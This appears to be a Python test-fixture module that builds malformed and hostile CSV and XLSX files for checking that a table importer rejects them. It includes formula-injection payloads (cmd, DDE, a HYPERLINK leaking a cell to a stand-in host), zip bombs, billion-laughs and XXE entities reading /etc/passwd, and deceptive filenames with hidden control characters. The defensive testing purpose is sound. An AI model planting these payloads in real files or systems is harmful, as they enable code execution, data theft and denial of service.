"""Files nobody should have to open: broken, mistaken and hostile ones, made of a good table.

Each says what must become of it: refused with one of its codes, or (no codes) read without harm.
"""

from __future__ import annotations

import csv
import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from itertools import pairwise
from pathlib import Path

from openpyxl import Workbook

Rows = Sequence[Sequence[str]]
Data = Callable[[Rows], bytes]
Make = Callable[[Path, Rows], Path]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://127.0.0.1/?"&A1,"x")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"x")',
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One way to be bad. `make` writes it into a folder from a good table (header first) and returns its path;
    `place` = the message must name line and column; `big` = its memory is measured."""

    name: str
    codes: frozenset[str]
    make: Make
    place: bool = False
    big: bool = False


def csv_text(rows: Rows, line_end: str = "\r\n", quoting: int = csv.QUOTE_MINIMAL) -> str:
    """A table as CSV."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator=line_end, quoting=quoting).writerows(rows)  # type: ignore[arg-type]
    return buffer.getvalue()


def _file(name: str, data: Data) -> Make:
    def make(folder: Path, rows: Rows) -> Path:
        path = folder / name
        path.write_bytes(data(rows))
        return path

    return make


def _bytes(
    name: str, *codes: str, place: bool = False, big: bool = False, ending: str = "csv"
) -> Callable[[Data], Data]:
    """Registers a function rows → bytes under a name."""

    def register(data: Data) -> Data:
        made = Hostile(name, frozenset(codes), _file(f"{name}.{ending}", data), place, big)
        HOSTILE.append(made)
        return data

    return register


HOSTILE: list[Hostile] = []


# -- text -------------------------------------------------------------------------------------------------------------


@_bytes("empty", "file_empty")
def _empty(rows: Rows) -> bytes:
    return b""


@_bytes("blanks", "file_empty")
def _blanks(rows: Rows) -> bytes:
    return b"\xef\xbb\xbf \r\n\t\r\n"


@_bytes("cut_in_quotes", "file_damaged", place=True)
def _cut_in_quotes(rows: Rows) -> bytes:
    return csv_text(rows, quoting=csv.QUOTE_ALL).encode("cp932", "replace").removesuffix(b'"\r\n')


@_bytes("cut_in_a_character", "file_damaged", place=True)
def _cut_in_character(rows: Rows) -> bytes:
    data = csv_text([*rows, ["漢"]]).encode("utf-8")
    return data.removesuffix(b"\r\n")[:-1]


@_bytes("cut_in_a_character_cp932", "file_damaged", place=True)
def _cut_in_character_cp932(rows: Rows) -> bytes:
    data = csv_text([*rows, ["漢"]]).encode("cp932", "replace")
    return data.removesuffix(b"\r\n")[:-1]


@_bytes("cut_in_the_last_row", "file_cut_off", place=True)
def _cut_in_last_row(rows: Rows) -> bytes:
    short = csv_text([rows[-1][: len(rows[0]) - 1]]).removesuffix("\r\n")
    return (csv_text(rows) + short).encode("cp932", "replace")


@_bytes("cp932_rows_under_a_utf8_header", "file_encoding", place=True)
def _cp932_under_utf8(rows: Rows) -> bytes:
    return csv_text(rows[:1]).encode("utf-8") + csv_text(rows[1:]).encode("cp932", "replace")


@_bytes("utf8_rows_under_a_cp932_header", "file_encoding", place=True)
def _utf8_under_cp932(rows: Rows) -> bytes:
    return csv_text(rows[:1]).encode("cp932") + csv_text(rows[1:]).encode("utf-8")


@_bytes("one_utf8_row_in_cp932", "file_encoding", place=True)
def _one_utf8_row(rows: Rows) -> bytes:
    return csv_text(rows).encode("cp932", "replace") + csv_text(rows[1:2]).encode("utf-8")


@_bytes("cp932_after_a_byte_order_mark", "file_encoding", place=True)
def _cp932_after_mark(rows: Rows) -> bytes:
    return b"\xef\xbb\xbf" + csv_text(rows).encode("cp932", "replace")


@_bytes("utf16_without_mark", "file_control", place=True)
def _utf16_without_mark(rows: Rows) -> bytes:
    return csv_text([["a", "b"], ["1", "2"]]).encode("utf-16-le")


@_bytes("utf16_cut", "file_damaged", place=True)
def _utf16_cut(rows: Rows) -> bytes:
    return csv_text(rows).encode("utf-16")[:-1]


@_bytes("utf16")
def _utf16(rows: Rows) -> bytes:
    return csv_text(rows).encode("utf-16")


@_bytes("nul_bytes", "file_control", place=True)
def _nul(rows: Rows) -> bytes:
    return csv_text([*rows, [*rows[1][:-1], "a\x00b"]]).encode("cp932", "replace")


@_bytes("lone_cr_line_ends")
def _lone_cr(rows: Rows) -> bytes:
    return csv_text(rows, "\r", csv.QUOTE_ALL).encode("cp932", "replace")


@_bytes("a_lone_cr_among_others", "file_damaged", place=True)
def _one_lone_cr(rows: Rows) -> bytes:
    lines = csv_text(rows).split("\r\n")
    return "\r\n".join([*lines[:1], lines[1].replace(",", ",x\ry", 1), *lines[2:]]).encode("cp932", "replace")


@_bytes("mark_in_the_middle")
def _mark_in_middle(rows: Rows) -> bytes:
    """Two files pasted one after the other."""
    return csv_text(rows).encode("utf-8-sig") + csv_text(rows).encode("utf-8-sig")


@_bytes("one_mb_cell", "cell_too_long", place=True)
def _one_mb_cell(rows: Rows) -> bytes:
    return csv_text([*rows, ["x" * 1_000_000, *rows[1][1:]]]).encode("cp932", "replace")


@_bytes("quote_never_closed", "cell_too_long", "file_damaged", place=True, big=True)
def _never_closed(rows: Rows) -> bytes:
    return csv_text(rows).encode("cp932", "replace") + b'"' + b"0123456789\r\n" * 5_000_000


@_bytes("ten_thousand_columns", "file_too_many_columns", big=True)
def _columns(rows: Rows) -> bytes:
    wide = [f"c{n}" for n in range(10_000)]
    return csv_text([[*rows[0], *wide], *[[*row, *wide] for row in rows[1:]]]).encode("cp932", "replace")


@_bytes("million_short_rows", "file_too_many_rows", place=False, big=True)
def _short_rows(rows: Rows) -> bytes:
    return csv_text(rows).encode("cp932", "replace") + b"1,2\r\n" * 1_000_000


@_bytes("too_many_cells", "file_too_many_cells", big=True)
def _many_cells(rows: Rows) -> bytes:
    """As much as is held in memory before it is too much, every cell another text."""
    wide = [*rows[0], *(f"c{n}" for n in range(900 - len(rows[0])))]
    lines = (",".join(f"{n:04d}{m:03d}" for m in range(900)) for n in range(6_000))
    return csv_text([wide]).encode("cp932", "replace") + "\r\n".join(lines).encode() + b"\r\n"


@_bytes("web_page", "file_markup", ending="xls")
def _web_page(rows: Rows) -> bytes:
    return b"\r\n<html><body><table><tr><td>" + rows[0][0].encode() + b"</td></tr></table></body></html>"


@_bytes("web_archive", "file_markup", ending="xls")
def _web_archive(rows: Rows) -> bytes:
    return b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n"


@_bytes("answer_of_an_api", "file_markup")
def _json(rows: Rows) -> bytes:
    return b'{"error": "session expired"}'


@_bytes("picture", "file_not_table")
def _picture(rows: Rows) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(64)


@_bytes("formulas")
def _formulas(rows: Rows) -> bytes:
    cells = [*FORMULAS, *rows[1]]
    return csv_text([*rows, *([cell] * len(rows[0]) for cell in cells[: len(FORMULAS)])]).encode("utf-8")


@_bytes("turned_and_hidden_characters")
def _hidden(rows: Rows) -> bytes:
    others = [[row[0][:-1] + "9", *row[1:]] for row in rows[1:]]
    spoilt = [[f"\u202e{cell[:2]}\u200b{cell[2:]}\u2066" if cell else "" for cell in row] for row in others]
    return csv_text([*rows, *spoilt]).encode("utf-8")


# -- workbooks --------------------------------------------------------------------------------------------------------


def workbook(rows: Rows) -> dict[str, bytes]:
    """The parts of a good workbook."""
    book = Workbook()
    assert book.active is not None
    for row in rows:
        book.active.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Parts as an archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", how) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return buffer.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def _with(rows: Rows, **parts: bytes | str) -> bytes:
    known = {"sheet": SHEET, "strings": "xl/sharedStrings.xml", "types": "[Content_Types].xml"}
    made = {
        known.get(name, name): part.encode() if isinstance(part, str) else part
        for name, part in parts.items()
    }
    return packed({**workbook(rows), **made})


def sheet_xml(body: str, head: str = "") -> str:
    """A sheet with these rows."""
    return f'<?xml version="1.0"?>{head}<worksheet xmlns="{MAIN}"><sheetData>{body}</sheetData></worksheet>'


def _book(name: str, *codes: str, big: bool = False) -> Callable[[Data], Data]:
    return _bytes(name, *codes, big=big, ending="xlsx")


@_book("bomb_by_its_directory", "workbook_too_big", big=True)
def _bomb(rows: Rows) -> bytes:
    return _with(rows, sheet=b" " * 300_000_000)


@_book("bomb_that_lies", "workbook_too_big", "workbook_damaged", big=True)
def _lying_bomb(rows: Rows) -> bytes:
    """The directory says that the sheet is a hundred bytes long."""
    return _lying(_with(rows, sheet=b" " * 300_000_000), 300_000_000, 100)


def _lying(data: bytes, real: int, told: int) -> bytes:
    return data.replace(struct.pack("<I", real), struct.pack("<I", told))


@_book("bomb_of_overlapping_parts", "workbook_too_big", "workbook_damaged", big=True)
def _overlapping(rows: Rows) -> bytes:
    """A thousand names in the directory for the same bytes."""
    parts = workbook(rows)
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    text = bytes(range(256)) * 4_000
    raw = body.compress(text) + body.flush()
    out, directory = io.BytesIO(), []
    for name, part in (("xl/a.xml", text), *parts.items()):
        squeezed = raw if name == "xl/a.xml" else part
        method = 8 if name == "xl/a.xml" else 0
        sizes = (zlib.crc32(part), len(squeezed), len(part), len(name))
        at = out.tell()
        out.write(
            struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0, *sizes, 0)
            + name.encode()
            + squeezed
        )
        names = [name] if name != "xl/a.xml" else [f"xl/{n:03d}.xml" for n in range(1_000)]
        for listed in names:
            entry = struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                *(b"PK\x01\x02", 20, 20, 0, method, 0, 0, *sizes[:3], len(listed), 0, 0, 0, 0, 0, at),
            )
            directory.append(entry + listed.encode())
    start, listed_bytes = out.tell(), b"".join(directory)
    out.write(listed_bytes)
    count = len(directory)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(listed_bytes), start, 0))
    return out.getvalue()


@_book("cells_far_apart", "workbook_too_wide", big=True)
def _far_apart(rows: Rows) -> bytes:
    cells = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    return _with(rows, sheet=sheet_xml(cells))


@_book("cell_beyond_every_sheet", "workbook_too_wide", big=True)
def _beyond(rows: Rows) -> bytes:
    return _with(
        rows, sheet=sheet_xml('<row r="1"><c r="A1"><v>1</v></c><c r="ZZZZZZZ9999999999"><v>2</v></c></row>')
    )


@_book("row_beyond_every_sheet", "workbook_too_wide", big=True)
def _row_beyond(rows: Rows) -> bytes:
    return _with(
        rows, sheet=sheet_xml('<row r="1"><c><v>1</v></c></row><row r="4294967297"><c><v>2</v></c></row>')
    )


@_book("tall_and_wide_without_references", "workbook_too_wide", big=True)
def _without_references(rows: Rows) -> bytes:
    wide = "<row>" + "<c><v>1</v></c>" * 900 + "</row>"
    return _with(rows, sheet=sheet_xml(wide + '<row r="900000"><c><v>1</v></c></row>'))


@_book("one_text_in_every_cell", "workbook_too_big", big=True)
def _one_text(rows: Rows) -> bytes:
    """A text of 90,000 characters that 400,000 cells name."""
    texts = f'<sst xmlns="{MAIN}"><si><t>{"あ" * 30_000}</t></si></sst>'
    cells = '<c t="s"><v>0</v></c>' * 400
    kind = workbook(rows)["[Content_Types].xml"].decode()
    part = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    kind = kind.replace(
        "</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{part}"/></Types>'
    )
    return _with(rows, sheet=sheet_xml(f"<row>{cells}</row>" * 1_000), strings=texts, types=kind)


@_book("million_empty_rows", big=True)
def _empty_rows(rows: Rows) -> bytes:
    """What selecting a whole sheet and giving it a border leaves."""
    body = workbook(rows)[SHEET].decode()
    empty = "".join(
        f'<row r="{n}" s="1" customFormat="1"><c r="A{n}" s="1"/></row>' for n in range(100, 1_000_100)
    )
    return _with(rows, sheet=body.replace("</sheetData>", empty + "</sheetData>"))


@_book("full_sheet", "workbook_too_wide", "file_too_many_cells", "workbook_too_big", big=True)
def _full_sheet(rows: Rows) -> bytes:
    """More cells than are held."""
    row = "<row>" + "<c><v>1</v></c>" * 900 + "</row>"
    return _with(rows, sheet=sheet_xml(row * 6_000))


@_book("billion_laughs", "workbook_entities")
def _laughs(rows: Rows) -> bytes:
    names = "abcdefghij"
    entities = '<!ENTITY a "lol">' + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(names)
    )
    cell = '<row r="1"><c r="A1" t="str"><v>&j;</v></c></row>'
    return _with(rows, sheet=sheet_xml(cell, f"<!DOCTYPE x [{entities}]>"))


@_book("entity_from_outside", "workbook_entities")
def _outside(rows: Rows) -> bytes:
    entity = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return _with(rows, sheet=sheet_xml('<row r="1"><c r="A1" t="str"><v>&a;</v></c></row>', entity))


@_book("entities_in_the_shared_texts", "workbook_entities")
def _entities_in_texts(rows: Rows) -> bytes:
    return _with(
        rows,
        strings=f'<!DOCTYPE s SYSTEM "http://127.0.0.1:9/x.dtd"><sst xmlns="{MAIN}"><si><t>a</t></si></sst>',
    )


@_book("no_xml", "workbook_damaged")
def _no_xml(rows: Rows) -> bytes:
    return _with(rows, sheet=b"\xff\xfe<worksheet>")


@_book("xml_cut_off", "workbook_damaged")
def _xml_cut(rows: Rows) -> bytes:
    return _with(rows, sheet=workbook(rows)[SHEET][:-40])


@_book("archive_cut_off", "workbook_damaged")
def _archive_cut(rows: Rows) -> bytes:
    data = _with(rows)
    return data[: len(data) // 2]


@_book("wrong_checksum", "workbook_damaged")
def _checksum(rows: Rows) -> bytes:
    parts = workbook(rows)
    data = packed(parts)
    return data.replace(struct.pack("<I", zlib.crc32(parts[SHEET])), b"abcd")


@_book("method_nobody_uses", "workbook_damaged")
def _method(rows: Rows) -> bytes:
    return packed(workbook(rows), zipfile.ZIP_LZMA)


@_book("thousands_of_parts", "workbook_too_big")
def _many_parts(rows: Rows) -> bytes:
    return _with(rows, **{f"xl/n{n}.xml": "<a/>" for n in range(3_000)})


@_book("macros_and_links")
def _macros_and_links(rows: Rows) -> bytes:
    link = f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="r" r:id="rId1"/></externalLink>'
    relation = '<Relationships><Relationship Id="rId1" Target="http://127.0.0.1:9/x.xlsx" TargetMode="External"/></Relationships>'
    return _with(
        rows,
        **{
            "xl/vbaProject.bin": _OLE + bytes(500),
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relation,
        },
    )


@_book("formula_with_a_value")
def _formula(rows: Rows) -> bytes:
    """What was worked out last is read, the formula never."""
    body = workbook(rows)[SHEET].decode()
    cell = '<row r="900"><c r="A900" t="str"><f>cmd|\'/C calc\'!A0</f><v>x</v></c></row>'
    return _with(rows, sheet=body.replace("</sheetData>", cell + "</sheetData>"))


@_book("numbers_out_of_this_world")
def _numbers(rows: Rows) -> bytes:
    body = workbook(rows)[SHEET].decode()
    cells = "".join(
        f'<c s="{style}"><v>{text}</v></c>' for style in (0, 1) for text in ("1e999", "-1e308", "nan")
    )
    return _with(rows, sheet=body.replace("</sheetData>", f'<row r="900">{cells}</row></sheetData>'))


@_book("archive_in_an_archive", "file_archive")
def _nested(rows: Rows) -> bytes:
    data = csv_text(rows).encode("cp932", "replace")
    for depth in range(20):
        data = packed({f"{depth}.zip": data})
    return data


@_book("archive_of_a_table", "file_archive")
def _zipped(rows: Rows) -> bytes:
    return packed({"orders.csv": csv_text(rows).encode("cp932", "replace")})


@_book("open_document", "file_old_workbook")
def _open_document(rows: Rows) -> bytes:
    return packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"})


@_book("workbook_of_two_kinds", "file_old_workbook")
def _two_kinds(rows: Rows) -> bytes:
    return _with(rows, **{"content.xml": "<a/>"})


_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@_bytes("old_workbook", "file_old_workbook", ending="xls")
def _old(rows: Rows) -> bytes:
    return _OLE + bytes(2_000)


@_book("password", "file_encrypted")
def _password(rows: Rows) -> bytes:
    return _OLE + bytes(1_000) + "EncryptedPackage".encode("utf-16-le") + bytes(1_000)


@_book("part_under_a_password", "file_encrypted")
def _part_password(rows: Rows) -> bytes:
    data = bytearray(_with(rows))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


# -- what is no file --------------------------------------------------------------------------------------------------


def _register(name: str, *codes: str) -> Callable[[Make], Make]:
    def register(make: Make) -> Make:
        HOSTILE.append(Hostile(name, frozenset(codes), make))
        return make

    return register


@_register("missing", "file_missing")
def _missing(folder: Path, rows: Rows) -> Path:
    return folder / "nowhere.csv"


@_register("folder", "file_not_table", "file_locked")
def _folder(folder: Path, rows: Rows) -> Path:
    (folder / "folder.csv").mkdir()
    return folder / "folder.csv"


if hasattr(os, "mkfifo"):  # Windows has none of these

    @_register("pipe", "file_special")
    def _pipe(folder: Path, rows: Rows) -> Path:
        os.mkfifo(folder / "pipe.csv")
        return folder / "pipe.csv"

    @_register("device", "file_special")
    def _device(folder: Path, rows: Rows) -> Path:
        return Path("/dev/zero")

    @_register("link_to_itself", "file_special")
    def _loop(folder: Path, rows: Rows) -> Path:
        (folder / "loop.csv").symlink_to(folder / "loop.csv")
        return folder / "loop.csv"

    @_register("link_to_nothing", "file_missing")
    def _dangling(folder: Path, rows: Rows) -> Path:
        (folder / "dangling.csv").symlink_to(folder / "nowhere.csv")
        return folder / "dangling.csv"

    @_register("link_to_a_device", "file_special")
    def _link_to_device(folder: Path, rows: Rows) -> Path:
        (folder / "device.csv").symlink_to("/dev/zero")
        return folder / "device.csv"

    @_register("link_to_a_table")
    def _link(folder: Path, rows: Rows) -> Path:
        (folder / "real.csv").write_bytes(csv_text(rows).encode("cp932", "replace"))
        (folder / "link.csv").symlink_to(folder / "real.csv")
        return folder / "link.csv"

    @_register("name_that_is_no_text")
    def _name(folder: Path, rows: Rows) -> Path:
        path = folder / os.fsdecode(b"orders-\xff\xfe.csv")
        path.write_bytes(csv_text(rows).encode("cp932", "replace"))
        return path

    @_register("name_that_deceives", "file_empty")
    def _deceiving(folder: Path, rows: Rows) -> Path:
        path = folder / "orders\n\x1b[31m\u202evsc.csv"
        path.write_bytes(b"")
        return path
